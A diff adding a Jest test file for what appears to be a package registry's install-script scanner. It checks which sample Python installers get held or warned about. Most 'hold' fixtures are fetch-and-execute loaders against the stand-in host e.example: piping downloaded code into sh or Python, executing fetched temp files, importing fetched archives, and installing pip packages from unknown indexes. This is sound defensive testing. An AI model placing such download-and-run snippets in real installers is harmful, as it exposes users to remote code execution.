@@ -1,0 +1,121 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { analyseFile, zipOf } from '../support/archives.js';
+
+let folder: string;
+beforeAll(() => {
+  folder = mkdtempSync(join(tmpdir(), 'registry-installers-'));
+});
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+/** Returns the most severe level of the findings about a package with this `install.py`, which are sorted by level. */
+async function levelOf(installer: string, others: Record<string, string> = {}): Promise<string> {
+  const path = join(folder, 'archive.zip');
+  writeFileSync(path, await zipOf({ '__init__.py': '', 'install.py': installer, ...others }));
+  return (await analyseFile(path)).findings[0]?.level ?? 'none';
+}
+
+const FETCH = 'from urllib.request import urlopen, urlretrieve\nimport os, subprocess, sys, tempfile\n';
+
+describe('the checks hold an installer that runs what it has fetched', () => {
+  it.each<[string, string, Record<string, string>?]>([
+    [
+      'in its main block',
+      `${FETCH}def main():\n    urlretrieve("https://e.example/t", "bin/t")\n    os.execv("bin/t", ["t"])\nif __name__ == "__main__":\n    main()\n`,
+    ],
+    [
+      'before the function that fetches is written',
+      `${FETCH}def run():\n    subprocess.run([sys.executable, "late.py"])\ndef get():\n    urlretrieve("https://e.example/a", "late.py")\nget()\nrun()\n`,
+    ],
+    [
+      'from the input of an interpreter',
+      `${FETCH}subprocess.run([sys.executable, "-"], input=urlopen("https://e.example/a").read())\n`,
+    ],
+    [
+      'from the input of a process',
+      `${FETCH}child = subprocess.Popen(["sh"], stdin=subprocess.PIPE)\nchild.stdin.write(urlopen("https://e.example/a").read())\n`,
+    ],
+    [
+      'from the input of a process, in blocks',
+      `${FETCH}child = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)\nreply = urlopen("https://e.example/a")\nfor block in iter(lambda: reply.read(99), b""):\n    child.stdin.write(block)\n`,
+    ],
+    [
+      'from a temporary file',
+      `${FETCH}handle, path = tempfile.mkstemp(suffix=".py")\nos.write(handle, urlopen("https://e.example/a").read())\nsubprocess.run([sys.executable, path])\n`,
+    ],
+    [
+      'by executing a temporary file',
+      `${FETCH}path = tempfile.mktemp()\nurlretrieve("https://e.example/a", path)\nexec(open(path).read())\n`,
+    ],
+    [
+      'from an unpacked archive that Python imports from',
+      `${FETCH}import io, zipfile\nzipfile.ZipFile(io.BytesIO(urlopen("https://e.example/a").read())).extractall("lib")\nsys.path.insert(0, "lib")\nimport fetched_module\n`,
+    ],
+    [
+      'from a cloned repository',
+      `${FETCH}here = os.path.dirname(__file__)\nsubprocess.run(["git", "clone", "https://e.example/a.git", os.path.join(here, "vendor")])\nsubprocess.run([sys.executable, os.path.join(here, "vendor", "a.py")])\n`,
+    ],
+    [
+      'with helpers in other files',
+      'from tools.fetch import fetch\nfrom tools.run import run\nrun(fetch("https://e.example/a"))\n',
+      {
+        'tools/__init__.py': '',
+        'tools/fetch.py':
+          'import requests, tempfile\ndef fetch(address):\n    with tempfile.NamedTemporaryFile(delete=False) as f:\n        f.write(requests.get(address).content)\n    return f.name\n',
+        'tools/run.py': 'import subprocess\ndef run(path):\n    return subprocess.call([path])\n',
+      },
+    ],
+    [
+      'from an unknown host by pip',
+      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "https://e.example/a-1.0-py3-none-any.whl"])\n',
+    ],
+    [
+      'from a package index of an unknown host',
+      'import os\nos.system("pip install --extra-index-url https://e.example/simple some-thing")\n',
+    ],
+    [
+      'from an unknown host by a wheel in two steps',
+      `${FETCH}urlretrieve("https://e.example/a.whl", "a-1.0-py3-none-any.whl")\nsubprocess.run([sys.executable, "-m", "pip", "install", "a-1.0-py3-none-any.whl"])\n`,
+    ],
+  ])('%s', async (_name, installer, others = {}) => {
+    expect(await levelOf(installer, others)).toBe('hold');
+  });
+});
+
+describe('the checks warn of an installer that', () => {
+  it.each<[string, string, Record<string, string>?]>([
+    [
+      'fetches a model and installs its requirements',
+      `${FETCH}here = os.path.dirname(__file__)\ndef main():\n    urlretrieve("https://huggingface.co/a/m.onnx", os.path.join(here, "m.onnx"))\n    subprocess.check_call([sys.executable, "-m", "pip", "install", "-r", os.path.join(here, "requirements.txt")])\nif __name__ == "__main__":\n    main()\n`,
+      { 'requirements.txt': 'numpy\n' },
+    ],
+    [
+      'installs a wheel from a host of packages',
+      `${FETCH}name = "a-1.0-py3-none-any.whl"\nurlretrieve("https://github.com/a/b/releases/download/v1/" + name, name)\nsubprocess.run([sys.executable, "-m", "pip", "install", name])\n`,
+    ],
+    [
+      'fetches a model and starts its own script',
+      `${FETCH}here = os.path.dirname(__file__)\nurlretrieve("https://huggingface.co/a/m.onnx", "m.onnx")\nsubprocess.run([sys.executable, os.path.join(here, "check.py")])\n`,
+      { 'check.py': 'print(1)\n' },
+    ],
+    [
+      'clones a repository with git and updates it',
+      'import subprocess\nsubprocess.run(["git", "clone", "https://github.com/a/b", "b"])\nsubprocess.run(["git", "-C", "b", "pull"])\n',
+    ],
+    [
+      'fetches with curl',
+      'import subprocess\nsubprocess.run(["curl", "-L", "-o", "m.onnx", "https://huggingface.co/a/m.onnx"])\n',
+    ],
+  ])('%s', async (_name, installer, others = {}) => {
+    expect(await levelOf(installer, others)).toBe('warn');
+  });
+
+  it('has a main block in a file that the package imports', async () => {
+    const others = { '__init__.py': 'from .install import version\n' };
+    const installer =
+      'import subprocess, sys\nversion = 1\ndef run(*words):\n    subprocess.run([sys.executable, "-m", "pip", *words])\nrun("install", "numpy")\nif __name__ == "__main__":\n    run("install", "some-thing")\n';
+    expect(await levelOf(installer, others)).toBe('warn');
+  });
+});
